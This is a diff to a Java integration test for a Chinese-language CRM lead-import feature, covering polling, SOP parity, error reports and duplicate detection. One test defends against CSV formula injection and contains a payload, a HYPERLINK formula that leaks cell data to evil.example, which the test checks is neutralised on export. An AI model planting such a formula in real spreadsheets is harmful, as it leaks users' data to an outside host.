@@ -7,7 +7,8 @@ import com.lead2cash.testing.LeadTestSupport;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
-import java.time.Instant;
+import java.util.List;
+import org.awaitility.Awaitility;
 import org.dhatim.fastexcel.Workbook;
 import org.dhatim.fastexcel.Worksheet;
 import org.dhatim.fastexcel.reader.ReadableWorkbook;
@@ -26,24 +27,25 @@ class LeadImportTest {
     @Autowired MockMvcTester mvc;
     @Autowired LeadTestSupport support;
     @Autowired com.lead2cash.testing.Fixtures fixtures;
+    @Autowired java.time.Clock clock;
     @Autowired JdbcClient jdbc;
 
     private static final String HEADER = "公司名称*,来源渠道*,行业,区域,联系人,电话,预算（元）,计划采购日期,联系人有决策权\r\n";
 
-    private JsonNode importAndWait(String fileName, byte[] content, String mode) throws InterruptedException {
+    private JsonNode importAndWait(String fileName, byte[] content, String mode) {
         String admin = support.bearer(mvc, "admin");
         var result = mvc.post().uri("/api/v1/leads/imports").multipart()
                 .file(new MockMultipartFile("file", fileName, "application/octet-stream", content))
                 .param("mode", mode).header(HttpHeaders.AUTHORIZATION, admin).exchange();
         assertThat(result).hasStatus(202);
-        String id = support.json(result).get("id").asString();
-        Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
-        JsonNode status;
-        do {
-            Thread.sleep(100);
-            status = support.getJson(mvc, admin, "/api/v1/leads/imports/" + id);
-        } while ("RUNNING".equals(status.get("state").asString()) && Instant.now().isBefore(deadline));
-        return status;
+        return finished(admin, support.json(result).get("id").asString());
+    }
+
+    /** Polls the import's status until it is no longer under way. */
+    private JsonNode finished(String bearer, String id) {
+        return Awaitility.await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(100))
+                .until(() -> support.getJson(mvc, bearer, "/api/v1/leads/imports/" + id),
+                        s -> !List.of("RECEIVING", "QUEUED", "RUNNING").contains(s.get("state").asString()));
     }
 
     private int count(String prefix) {
@@ -138,5 +140,133 @@ class LeadImportTest {
                 .file(new MockMultipartFile("file", "x.csv", "text/csv", "名字,颜色\r\n甲,红\r\n".getBytes(StandardCharsets.UTF_8)))
                 .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin")).exchange();
         assertThat(result).hasStatus(422).bodyJson().extractingPath("$.errors[0].code").isEqualTo("lead.import.unknownColumns");
+    }
+
+    /** What the SOP left behind for a lead: status, grade, reasons, deadlines, history, audit and notifications. */
+    private java.util.Map<String, Object> sopTrail(String leadId) {
+        var trail = new java.util.LinkedHashMap<String, Object>();
+        trail.put("lead", jdbc.sql("select status || ' ' || grade || ' ' || (owner_id is not null) from lead_lead where id = cast(:id as uuid)")
+                .param("id", leadId).query(String.class).single());
+        trail.put("reasons", jdbc.sql("select count(*) from lead_grade_reason where lead_id = cast(:id as uuid)")
+                .param("id", leadId).query(Integer.class).single());
+        trail.put("deadlines", support.deadlines(java.util.UUID.fromString(leadId)));
+        trail.put("history", jdbc.sql("select message_key from lead_event where lead_id = cast(:id as uuid) order by id")
+                .param("id", leadId).query(String.class).list());
+        trail.put("audit", jdbc.sql("select action from platform_audit_event where entity_type = 'Lead' and entity_id = :id order by id")
+                .param("id", leadId).query(String.class).list());
+        trail.put("notifications", jdbc.sql("select kind from notification_message where link = :link order by created_at")
+                .param("link", "/leads/" + leadId).query(String.class).list());
+        return trail;
+    }
+
+    @Test
+    void anImportedLeadGoesTheWholeSopPathOfALeadCapturedThroughTheApi() {
+        LeadTestSupport.Company company = support.company(mvc, "path");
+        String admin = support.bearer(mvc, "admin");
+        String byApi = support.postJson(mvc, admin, "/api/v1/leads", company.gradeALead("路径接口有限公司", "13700001111"))
+                .get("id").asString();
+        String row = "路径导入有限公司,展会,制造业," + company.region() + ",王经理,13700002222,500000,"
+                + java.time.LocalDate.now(clock).plusDays(30) + ",是\r\n";
+        JsonNode status = importAndWait("path.csv", (HEADER + row).getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
+        assertThat(status.get("imported").asInt()).isEqualTo(1);
+        String imported = jdbc.sql("select id::text from lead_lead where company_name = '路径导入有限公司'").query(String.class).single();
+
+        var expected = sopTrail(byApi);
+        assertThat(expected.get("deadlines")).asList().contains("L1:MET", "L6:MET", "L7:OPEN");
+        assertThat(expected.get("notifications")).asList().contains("lead.assigned");
+        assertThat(sopTrail(imported)).isEqualTo(expected);
+    }
+
+    @Test
+    void everyExportNeutralisesTextASpreadsheetWouldRunAsAFormula() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")";
+        String admin = support.bearer(mvc, "admin");
+        assertThat(support.post(mvc, admin, "/api/v1/leads", """
+                {"companyName":"%s","contactName":"@SUM(1+1)","source":"TRADE_SHOW"}"""
+                .formatted(formula.replace("\"", "\\\""))).getResponse().getStatus()).isEqualTo(201);
+
+        // the lead list export
+        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
+        byte[] export = mvc.get().uri("/leads/export.xlsx").cookie(session).exchange().getResponse().getContentAsByteArray();
+        java.util.List<String> exported = new java.util.ArrayList<>();
+        try (ReadableWorkbook wb = new ReadableWorkbook(new java.io.ByteArrayInputStream(export))) {
+            wb.getFirstSheet().read().forEach(r -> r.forEach(c -> exported.add(c == null ? null : c.getText())));
+        }
+        assertThat(exported).contains("'" + formula, "'@SUM(1+1)").doesNotContain(formula);
+
+        // the import's error report: the refused row comes back neutralised, and imports again as it was
+        String refused = HEADER + "\"" + formula.replace("\"", "\"\"") + "\",电视广告,,,,,,,\r\n";
+        JsonNode status = importAndWait("formula.csv", refused.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
+        assertThat(status.get("failed").asInt()).isEqualTo(1);
+        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
+                .header(HttpHeaders.AUTHORIZATION, admin).exchange().getResponse().getContentAsByteArray();
+        java.util.List<String> reported = new java.util.ArrayList<>();
+        try (ReadableWorkbook wb = new ReadableWorkbook(new java.io.ByteArrayInputStream(report))) {
+            wb.getFirstSheet().read().forEach(r -> r.forEach(c -> reported.add(c == null ? null : c.getText())));
+        }
+        assertThat(reported).contains("'" + formula).doesNotContain(formula);
+        assertThat(reported).anySatisfy(cell -> assertThat(cell).startsWith("#2 ").contains("电视广告"));
+
+        // the templates carry only their headers, through the same helper
+        String template = new String(mvc.get().uri("/leads/imports/template.csv").cookie(session).exchange().getResponse()
+                .getContentAsByteArray(), StandardCharsets.UTF_8);
+        assertThat(template).startsWith("\uFEFF公司名称*,");
+    }
+
+    @Test
+    void theErrorReportIsTheRefusedRowsReadyToCorrectAndImportAgain() throws Exception {
+        String admin = support.bearer(mvc, "admin");
+        JsonNode first = importAndWait("report.csv", csv("报告"), "VALID_ROWS");
+        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + first.get("id").asString() + "/report.xlsx")
+                .header(HttpHeaders.AUTHORIZATION, admin).exchange().getResponse().getContentAsByteArray();
+        // corrected in a spreadsheet program: every refused row gets a name and a known source, budgets become numbers
+        ByteArrayOutputStream corrected = new ByteArrayOutputStream();
+        try (ReadableWorkbook in = new ReadableWorkbook(new java.io.ByteArrayInputStream(report));
+             Workbook out = new Workbook(corrected, "test", "1.0")) {
+            Worksheet ws = out.newWorksheet("线索");
+            var rows = in.getFirstSheet().read();
+            for (int r = 0; r < rows.size(); r++) {
+                for (int c = 0; c < rows.get(r).getCellCount(); c++) {
+                    var cell = rows.get(r).getCell(c);
+                    String header = rows.get(0).getCell(c).getText();
+                    String text = cell == null ? null : cell.getText();
+                    if (r > 0 && header.startsWith("公司名称")) {
+                        text = "报告更正" + r;
+                    } else if (r > 0 && header.startsWith("来源渠道")) {
+                        text = "展会";
+                    } else if (r > 0 && (header.startsWith("预算") || header.equals("电话"))) {
+                        text = null;
+                    }
+                    if (text != null) {
+                        ws.value(r, c, text);
+                    }
+                }
+            }
+            ws.finish();
+        }
+        JsonNode again = importAndWait("corrected.xlsx", corrected.toByteArray(), "ALL_OR_NOTHING");
+        assertThat(again.get("state").asString()).isEqualTo("DONE");
+        assertThat(again.get("imported").asInt()).isEqualTo(3);
+        assertThat(count("报告更正")).isEqualTo(3);
+    }
+
+    @Test
+    void possibleDuplicatesAmongTheFilesOwnRowsAndWithEarlierLeadsAreListedAndStillImported() {
+        String admin = support.bearer(mvc, "admin");
+        String existing = support.postJson(mvc, admin, "/api/v1/leads", LeadTestSupport.gradeBLead("查重已有有限公司", "13955550001", support.today().plusDays(30)))
+                .get("code").asString();
+        String file = HEADER
+                + "查重同名有限公司,展会,,,,13955550002,,,\r\n"        // line 2
+                + "查重同名有限公司,展会,,,,13955550003,,,\r\n"        // line 3: same company as line 2
+                + "查重新公司,展会,,,,13955550001,,,\r\n"              // line 4: the earlier lead's phone
+                + "查重无关有限公司,展会,,,,13955550004,,,\r\n";       // line 5: nothing in common
+        JsonNode status = importAndWait("duplicates.csv", file.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
+        assertThat(status.get("imported").asInt()).isEqualTo(4);
+        assertThat(status.get("duplicates").asInt()).isEqualTo(2);
+        String lineTwo = jdbc.sql("select code from lead_lead where phone_normalized like '%13955550002'").query(String.class).single();
+        assertThat(status.get("possibleDuplicates").findValues("line").stream().map(JsonNode::asInt).toList())
+                .containsExactly(3, 4);
+        assertThat(status.get("possibleDuplicates").get(0).get("matches").asString()).contains(lineTwo);
+        assertThat(status.get("possibleDuplicates").get(1).get("matches").asString()).contains(existing);
     }
 }
